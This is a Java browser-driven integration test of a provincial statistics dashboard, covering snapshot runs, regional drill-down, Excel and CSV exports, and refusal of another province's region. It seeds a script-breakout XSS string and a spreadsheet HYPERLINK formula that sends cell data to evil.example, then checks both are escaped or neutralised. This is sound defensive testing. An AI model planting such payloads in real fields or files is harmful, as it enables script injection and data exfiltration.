package org.cmmm.statistics;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import javax.sql.DataSource;
import org.cmmm.it.Browser;
import org.cmmm.it.DiagnosisRows;
import org.cmmm.it.PlatformDeployment;
import org.cmmm.it.TestData;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;

/**
 * In Chromium at 1366×768: support writes a snapshot on the support page; the provincial administrator of Qinghai
 * (a province no other test fills) opens the dashboard on their province, finds the figures the snapshot holds,
 * drills down to 西宁市 and to 城东区, and is refused a region of another province by address.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class StatisticsDashboardJourneyIT {

    @RegisterExtension
    static Browser browser = new Browser();

    private static final String PASSWORD = "Dashboard#2026";
    private static final String ZONE = "630190";
    private static final String BREAKOUT = "区</script><img id=probe src=//e.ex/p.gif>";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return PlatformDeployment.ear();
    }

    @Test
    void supportWritesASnapshotAndAProvincialAdministratorDrillsDownThroughIt() throws Exception {
        DataSource database = TestData.fromTestJvm();
        TestData data = new TestData(database);
        DiagnosisRows diagnoses = new DiagnosisRows(database);
        for (int i = 0; i < 3; i++) {
            diagnoses.completed(data.enterprise(TestData.unique("城东企业"), "630102"), data.regionPath("630102"));
        }
        // enterprise names are free text: one typed as a spreadsheet formula (issue 25, finding 2)
        diagnoses.completed(data.enterprise(TestData.unique(FORMULA + "城东企业"), "630102"), data.regionPath("630102"));
        data.enterprise(TestData.unique("城中企业"), "630103");
        // a development zone whose name tries to break out of the chart's script (issue 25, finding 3), with an
        // enterprise registered there, so that the zone is one of 西宁市's regions on its page and in its chart
        data.zone(ZONE, BREAKOUT, "630100");
        data.enterprise(TestData.unique("园区企业"), ZONE);
        String support = data.newUser("dashsupport", PASSWORD, "SUPPORT", null, null);
        String admin = data.newUser("qinghai", PASSWORD, "REGION_ADMIN", null, "630000");
        Thread.sleep(1_100); // the run's as-of (whole seconds) after the completions

        long before = data.count("select coalesce(max(id), 0) from statistics_run");
        browser.signIn(support, PASSWORD, "zh_CN");
        browser.open("support/statistics.xhtml");
        // an as-of instant in the future is refused at its field, and nothing starts
        browser.type(By.id("runs:asOf_input"), java.time.LocalDateTime.now().plusDays(2).toString().replace('T', ' ').substring(0, 16));
        closeThePicker();
        browser.click(By.id("runs:start"));
        assertThat(browser.waitFor(By.cssSelector("#runs .ui-message-error")).getText()).contains("不能晚于现在");
        assertThat(data.count("select count(*) from statistics_run where id > ?", before)).isZero();
        browser.open("support/statistics.xhtml");
        browser.click(By.id("runs:start"));
        Instant until = Instant.now().plus(Duration.ofMinutes(3));
        while (Instant.now().isBefore(until)
                && data.count("select count(*) from statistics_run where id > ? and status = 'COMPLETED'", before) == 0) {
            Thread.sleep(300);
        }
        assertThat(data.count("select count(*) from statistics_run where id > ? and status = 'COMPLETED'", before)).isEqualTo(1);

        browser.signOutByForgetting();
        browser.signIn(admin, PASSWORD, "zh_CN");
        browser.click(By.id("nav-statistics"));
        assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("青海省");
        assertThat(browser.driver().findElement(By.id("registered")).getText()).isEqualTo("6");
        assertThat(browser.driver().findElement(By.id("diagnosed")).getText()).isEqualTo("4");
        assertThat(browser.driver().findElement(By.id("coverage")).getText()).isEqualTo("66.7%");
        assertThat(browser.driver().findElement(By.id("average")).getText()).isEqualTo("1.00");
        browser.screenshot("statistics-dashboard-province");
        for (String section : new String[] {"children-title", "subdomains-title", "industries-title"}) {
            ((org.openqa.selenium.JavascriptExecutor) browser.driver())
                    .executeScript("document.getElementById(arguments[0]).scrollIntoView()", section);
            browser.screenshot("statistics-dashboard-province-" + section);
        }
        // the sub-domain table's columns are the sub-domain, the province and the nation — not the request's headers
        // (issue 25, finding 1), on the page and in both exports
        List<String> columns = browser.driver().findElements(By.cssSelector("#subdomains thead th")).stream()
                .map(org.openqa.selenium.WebElement::getText).toList();
        assertThat(columns).containsExactly("能力子域", "青海省", "全国");
        browser.click(By.id("subdomains-export:csv"));
        Path subDomainsCsv = Browser.downloaded("subdomains-630000", ".csv", Duration.ofSeconds(30));
        browser.checkNoLeak(subDomainsCsv);
        assertThat(java.nio.file.Files.readAllLines(subDomainsCsv, java.nio.charset.StandardCharsets.UTF_8).get(0).replace("\uFEFF", ""))
                .isEqualTo("\"能力子域\",\"青海省\",\"全国\"");
        browser.click(By.id("subdomains-export:xlsx"));
        Path subDomainsExcel = Browser.downloaded("subdomains-630000", ".xlsx", Duration.ofSeconds(30));
        browser.checkNoLeak(subDomainsExcel);
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(subDomainsExcel))) {
            var header = workbook.getSheetAt(0).getRow(0);
            assertThat(List.of(header.getCell(0).getStringCellValue(), header.getCell(1).getStringCellValue(),
                    header.getCell(2).getStringCellValue())).containsExactly("能力子域", "青海省", "全国");
        }

        // the list of the province's enterprises, filtered, exported to Excel: the file holds the rows shown
        ((org.openqa.selenium.JavascriptExecutor) browser.driver())
                .executeScript("document.getElementById('enterprises-title').scrollIntoView()");
        assertThat(browser.driver().findElements(By.cssSelector("#list\\:enterprises_data tr"))).hasSize(4);
        chooseLevel(2, "未达到一级"); // none of them
        browser.waitForAjax();
        assertThat(browser.waitFor(By.cssSelector("#list\\:enterprises_data .ui-datatable-empty-message")).getText())
                .isEqualTo("没有符合条件的企业。");
        chooseLevel(3, "一级 规划级"); // all four
        browser.waitForAjax();
        assertThat(browser.driver().findElements(By.cssSelector("#list\\:enterprises_data tr a[href*='enterprise/view']"))).hasSize(4);
        browser.screenshot("statistics-dashboard-list");
        browser.click(By.id("list-export:xlsx"));
        Path excel = Browser.downloaded("enterprises-630000", ".xlsx", Duration.ofSeconds(30));
        browser.checkNoLeak(excel);
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(excel))) {
            var sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).as("a header and the 4 rows shown").isEqualTo(4);
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("企业名称");
            for (int row = 1; row <= 4; row++) {
                // (Excel keeps a name as a string cell, which a spreadsheet never runs)
                assertThat(sheet.getRow(row).getCell(0).getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                assertThat(sheet.getRow(row).getCell(0).getStringCellValue()).matches("(\\Q" + FORMULA + "\\E)?城东企业\\d+");
                assertThat(sheet.getRow(row).getCell(1).getStringCellValue()).isEqualTo("青海省 西宁市 城东区");
                assertThat(sheet.getRow(row).getCell(4).getStringCellValue()).startsWith("一级");
            }
        }
        browser.click(By.id("list-export:csv"));
        Path csv = Browser.downloaded("enterprises-630000", ".csv", Duration.ofSeconds(30));
        browser.checkNoLeak(csv);
        List<String> lines = java.nio.file.Files.readAllLines(csv, java.nio.charset.StandardCharsets.UTF_8);
        assertThat(lines).hasSize(5);
        assertThat(lines.get(1)).contains("城东企业").contains("城东区").contains("一级");
        // the formula reaches the spreadsheet as text: a quote before it, inside the cell's quotes
        assertThat(lines).anySatisfy(line -> assertThat(line).startsWith("\"'" + FORMULA.replace("\"", "\"\"")));
        assertThat(lines).noneSatisfy(line -> assertThat(line).startsWith("\"="));

        // the regions table as shown: the province's one city with its figures
        browser.click(By.id("children-export:xlsx"));
        Path regions = Browser.downloaded("regions-630000", ".xlsx", Duration.ofSeconds(30));
        browser.checkNoLeak(regions);
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(java.nio.file.Files.newInputStream(regions))) {
            var sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(1);
            assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo("西宁市");
            var text = new org.apache.poi.ss.usermodel.DataFormatter();
            assertThat(text.formatCellValue(sheet.getRow(1).getCell(1))).isEqualTo("6");
            assertThat(text.formatCellValue(sheet.getRow(1).getCell(2))).isEqualTo("4");
        }

        browser.click(By.linkText("西宁市"));
        assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("西宁市");
        // the zone's name is a label of the city's chart and a row of its table, as text: no element came of it (and
        // the browser loaded nothing from elsewhere, which the CSP check after the test would report)
        assertThat(browser.driver().findElement(By.id("children")).getText()).contains(BREAKOUT);
        assertThat(browser.driver().findElements(By.id("probe"))).isEmpty();
        // the page as the server sent it (the browser's document no longer holds the chart's script): the name in the
        // chart's configuration is escaped, nowhere raw
        String sent = org.cmmm.it.Http.get("statistics/index.xhtml?region=630100", "Cookie", "JSESSIONID="
                + browser.driver().manage().getCookieNamed("JSESSIONID").getValue() + "; cmmm_lang=zh_CN").body();
        assertThat(sent).contains("\\u003c/script\\u003e\\u003cimg id=probe").doesNotContain("</script><img id=probe");
        browser.screenshot("statistics-dashboard-city-breakout");
        browser.click(By.linkText("城东区"));
        assertThat(browser.waitFor(By.id("headline-title")).getText()).isEqualTo("城东区");
        assertThat(browser.driver().findElement(By.id("diagnosed")).getText()).isEqualTo("4");
        // the comparison with the city: 4 of its 4 diagnosed enterprises are the county's own, so nothing is hidden
        // by difference; the city has fewer than 5, so it is hidden ("样本不足")
        assertThat(browser.driver().findElement(By.id("subdomains")).getText()).contains("样本不足");
        browser.screenshot("statistics-dashboard-county");

        // the same county in English: the labels, the level names and the suppression mark are translated
        browser.open("statistics/index.xhtml?region=630102&lang=en");
        assertThat(browser.waitFor(By.id("headline")).getText()).contains("Registered enterprises", "Self-diagnosed enterprises");
        assertThat(browser.driver().findElement(By.id("levels-table")).getText()).contains("Level 1");
        assertThat(browser.driver().findElement(By.id("subdomains")).getText()).contains("Too few").doesNotContain("样本不足");
        assertThat(browser.driver().findElement(By.id("list-export:xlsx")).getText()).isEqualTo("Export Excel");
        browser.screenshot("statistics-dashboard-county-en");
        ((org.openqa.selenium.JavascriptExecutor) browser.driver())
                .executeScript("document.getElementById('enterprises-title').scrollIntoView()");
        browser.screenshot("statistics-dashboard-list-en");

        browser.open("statistics/index.xhtml?region=320500");
        assertThat(browser.driver().getPageSource()).doesNotContain("headline-title");
        assertThat(browser.waitFor(By.id("error-title")).getText()).isNotBlank();
    }

    /**
     * Closes the date picker's calendar, which stays open over the start button after typing: Escape, again until it
     * is gone (on a slow machine the calendar may open only after the first Escape).
     */
    private static void closeThePicker() {
        new org.openqa.selenium.support.ui.WebDriverWait(browser.driver(), Duration.ofSeconds(10)).until(driver -> {
            driver.findElement(By.id("runs:asOf_input")).sendKeys(org.openqa.selenium.Keys.ESCAPE);
            return driver.findElements(By.id("runs:asOf_panel")).stream().noneMatch(panel -> panel.isDisplayed());
        });
    }

    /** Chooses the level filter's item (1-based, as listed), as a keyboard or mouse user would in the native list. */
    private static void chooseLevel(int item, String label) {
        org.openqa.selenium.support.ui.Select level = new org.openqa.selenium.support.ui.Select(browser.driver().findElement(By.id("list:level")));
        level.selectByIndex(item - 1);
        assertThat(level.getFirstSelectedOption().getText()).isEqualTo(label);
    }
}
